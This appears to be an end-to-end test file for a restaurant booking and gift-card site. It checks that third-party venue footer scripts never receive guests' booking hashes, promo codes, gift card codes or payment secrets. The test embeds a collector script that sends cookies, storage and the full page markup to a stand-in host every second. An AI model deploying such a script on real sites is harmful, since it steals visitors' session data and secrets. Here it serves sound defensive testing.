/**
 * No venue script sees a guest's secret (docs/security.md, "Secrets in addresses"). A venue of
 * its own (docs/examples/osteria-del-porto.yaml, a demo venue for the demo card gateway) has a
 * footer script that reports, on every page where it runs and every second after, what analytics
 * and session replay record: `location.href`, `document.referrer`, `document.cookie`, the
 * resource-timing entries, `history.state`, the storages and the page's markup. A guest books a
 * table and opens it from the end page, opens the booking's link from the e-mail, buys a gift
 * card and comes back from the card's bank, claims a promotion and shows the code, and leaves
 * each secret page for another page of the site. The collector gets reports from every page
 * without a secret, and none holds the edit hash, the order's fingerprint, the claim's id, the
 * promo code, the gift card codes or the payment's client secret. The venue counts the booking,
 * the order and the claim from the page's events.
 */
import { bookPlainTable, weekdayFrom } from '../support/booking';
import { expect, test } from '../support/fixtures';
import { acceptPrivacy, area as giftcards, fillBuyer, gcTexts, openProduct, payWithDemoCard, submitCheckout } from '../support/giftcards';
import { emailIn } from '../support/outbox';
import { claimThroughForm } from '../support/promo';
import { E2E_DATA_DIR } from '../support/server';
import { applyVenueFile, exampleVenue } from '../support/venue-files';

const COLLECTOR = 'https://collector.example';

/** What a venue's analytics or session replay could send, from every page where it runs. */
const COLLECTOR_FOOTER = `<p>Osteria del Porto · Camogli</p>
<script>
(function () {
  var sent = 0;
  function dump(storage) { try { return JSON.stringify(Object.assign({}, storage)); } catch (e) { return ''; } }
  function report(kind) {
    if (sent++ > 400) return;
    fetch('${COLLECTOR}/' + kind, { method: 'POST', mode: 'no-cors', keepalive: true, body: JSON.stringify({
      href: location.href,
      referrer: document.referrer,
      cookie: document.cookie,
      resources: performance.getEntriesByType('resource').map(function (e) { return e.name; }),
      state: JSON.stringify(history.state),
      local: dump(localStorage),
      session: dump(sessionStorage),
      html: document.documentElement.outerHTML
    }) });
  }
  report('load');
  setInterval(function () { report('tick'); }, 1000);
  addEventListener('venue:event', function (e) {
    fetch('${COLLECTOR}/event', { method: 'POST', mode: 'no-cors', body: JSON.stringify(e.detail) });
  });
})();
</script>`;

function venueWithCollector(slug: string): string {
  const file = exampleVenue(slug).replace(`venue: ${slug}\n`, `venue: ${slug}\ndemo: true\n`);
  const footer = COLLECTOR_FOOTER.split('\n')
    .map((line) => `  ${line}`)
    .join('\n');
  return `${file.trimEnd()}\ncustomFooter: |\n${footer}\n`;
}

test('a venue script on every page sees no hash, fingerprint, claim id, code or client secret', async ({ page, request }) => {
  test.setTimeout(180_000);
  const slug = `osteria-secrets-${Date.now().toString(36)}`;
  await applyVenueFile(request, venueWithCollector(slug));

  const reports: Array<{ kind: string; body: string }> = [];
  const events: Array<Record<string, unknown>> = [];
  await page.route(`${COLLECTOR}/**`, async (route) => {
    const kind = new URL(route.request().url()).pathname.slice(1);
    const body = route.request().postData() ?? '';
    if (kind === 'event') events.push(JSON.parse(body) as Record<string, unknown>);
    else reports.push({ kind, body });
    await route.fulfill({ status: 204 });
  });
  const reported = () => reports.map((r) => JSON.parse(r.body) as { href: string; referrer: string });
  const reportedFrom = (path: RegExp) => expect.poll(() => reported().some((r) => path.test(new URL(r.href).pathname)), { timeout: 10_000 }).toBe(true);

  await page.goto(`/welcome?venue=${slug}`);
  await reportedFrom(/^\/welcome$/);

  // A table, booked on the pages: the end page, then the booking's own page from its button.
  const email = `nora.${slug}@example.com`;
  const hash = await bookPlainTable(page, {
    date: weekdayFrom('Europe/Rome', 8, 3),
    time: '12:30',
    pax: 2,
    guest: { firstName: 'Nora', lastName: 'Segreti', email },
  });
  await reportedFrom(/^\/reserve\/confirmed$/);
  await page.locator('[data-page="ReserveMessage"]').getByRole('button', { name: 'Modifica o cancella' }).click();
  await expect(page).toHaveURL(new RegExp(`/reserve/${hash}/edit$`));
  await expect(page.locator('[data-page="ReserveEdit"]')).toBeVisible();
  // Out of the secret page by the site's own navigation: a new document, without a referrer.
  await page.getByRole('navigation', { name: 'Navigazione principale' }).getByRole('link', { name: 'Home' }).click();
  await expect(page).toHaveURL(/\/welcome$/);
  // The booking's link from its e-mail, opened as the guest does.
  const confirmation = await emailIn(E2E_DATA_DIR, email, /./);
  const editLink = [...confirmation.links.values()].find((href) => href.includes('/edit'))!;
  expect(editLink).toContain(hash);
  await page.goto(editLink);
  await expect(page.locator('[data-page="ReserveEdit"]')).toBeVisible();
  await page.waitForTimeout(1500);

  // A gift card, bought and paid: the payment and the confirmation, then back to the list.
  const t = gcTexts('it');
  await page.goto('/frontpage/giftcards');
  await openProduct(page, 'Buono regalo', 'it');
  await giftcards(page).getByRole('button', { name: t.continue }).click();
  await reportedFrom(/^\/frontpage\/giftcard\/checkout/);
  await fillBuyer(page, 'it', { email: `buyer.${slug}@example.com` });
  await acceptPrivacy(page, 'it');
  await submitCheckout(page, 'it');
  await expect(page).toHaveURL(/\/frontpage\/giftcard\/stripe\/[^/]+$/);
  const fingerprint = new URL(page.url()).pathname.split('/').pop()!;
  await payWithDemoCard(page, 'it');
  await expect(giftcards(page).getByRole('heading', { name: t.thanks })).toBeVisible({ timeout: 20_000 });
  const cardCodes = await giftcards(page).getByTestId('giftcard-code').allTextContents();
  expect(cardCodes.length).toBeGreaterThan(0);
  // The bank's return to the site (a redirect-based payment method), as Stripe sends it.
  const clientSecret = 'pi_3SecretTest_secret_kF9wq2Lx';
  await page.goto(`/frontpage/giftcard/create/${fingerprint}?payment_intent=pi_3SecretTest&payment_intent_client_secret=${clientSecret}&redirect_status=succeeded`);
  await expect(giftcards(page).getByRole('heading', { name: t.thanks })).toBeVisible({ timeout: 20_000 });
  await page.getByRole('navigation', { name: 'Navigazione principale' }).getByRole('link', { name: 'Home' }).click();
  await expect(page).toHaveURL(/\/welcome$/);

  // A promotion, claimed: the confirm page, then the code's page from its button.
  await page.goto('/promo/aperitivo');
  await claimThroughForm(page, { firstName: 'Nora', lastName: 'Segreti', email: `claim.${slug}@example.com` });
  await expect(page).toHaveURL(/\/promo\/aperitivo\/confirm$/);
  await reportedFrom(/^\/promo\/aperitivo\/confirm$/);
  await page.getByRole('button', { name: 'Mostra il mio codice' }).click();
  await expect(page).toHaveURL(/\/promo\/aperitivo\/[^/]+$/);
  const claimId = new URL(page.url()).pathname.split('/').pop()!;
  const promoCode = (await page.getByTestId('promo-code').textContent())!.trim();
  await page.waitForTimeout(1500);
  await page.getByRole('navigation', { name: 'Navigazione principale' }).getByRole('link', { name: 'Home' }).click();
  await expect(page).toHaveURL(/\/welcome$/);
  await page.waitForTimeout(1500);

  // The venue's script ran on every page without a secret, and on none with one.
  const paths = new Set(reported().map((r) => new URL(r.href).pathname));
  for (const path of ['/welcome', '/reserve', '/reserve/confirmed', '/frontpage/giftcards', '/promo/aperitivo', '/promo/aperitivo/confirm'])
    expect(paths).toContain(path);
  const secrets = { hash, fingerprint, claimId, promoCode, clientSecret, ...Object.fromEntries(cardCodes.map((code, i) => [`card${i}`, code])) };
  for (const [name, secret] of Object.entries(secrets)) {
    expect(secret.length, name).toBeGreaterThan(5);
    const leaks = reports.filter((r) => r.body.includes(secret) || r.body.includes(encodeURIComponent(secret)));
    expect(
      leaks.map((r) => JSON.parse(r.body).href),
      `${name} reached the venue's script`,
    ).toEqual([]);
  }

  // What the venue may count, told without a secret.
  expect(events).toContainEqual(expect.objectContaining({ type: 'booking', outcome: 'confirmed', partySize: 2, time: '12:30' }));
  expect(events).toContainEqual(expect.objectContaining({ type: 'giftcard-order', quantity: 1, currency: 'EUR' }));
  expect(events).toContainEqual({ type: 'promo-claim', promotion: 'aperitivo' });
  for (const secret of Object.values(secrets)) expect(JSON.stringify(events)).not.toContain(secret);
});

test('the server sends a secret page without the venue scripts and without a referrer, and any other page with both', async ({ request }) => {
  const venueSlot = (html: string, slot: string) =>
    new RegExp(`<div data-venue-slot="${slot}"[^>]*>([\\s\\S]*?)</div>\\s*(<header|</footer|<div class)`).exec(html)?.[1] ?? '';
  for (const path of ['/reserve/abcdefghijklmnopqrstuv/edit', '/promo/calice-di-benvenuto/0b6c1f3e', '/frontpage/giftcard/purchaseconfirmation/f1a2b3']) {
    const res = await request.get(`${path}?venue=cantina-aurora`, { headers: { Accept: 'text/html' } });
    expect(res.headers()['referrer-policy'], path).toBe('no-referrer');
    const html = await res.text();
    expect(html, path).toContain('Barolo · Langhe');
    expect(venueSlot(html, 'header'), path).not.toContain('<script');
    expect(html, path).not.toMatch(/<script[^>]*type="text\/x-venue-script"/);
  }
  const open = await request.get('/reserve?venue=cantina-aurora', { headers: { Accept: 'text/html' } });
  expect(open.headers()['referrer-policy']).toBe('strict-origin-when-cross-origin');
  expect(await open.text()).toMatch(/<script[^>]*type="text\/x-venue-script"/);
});
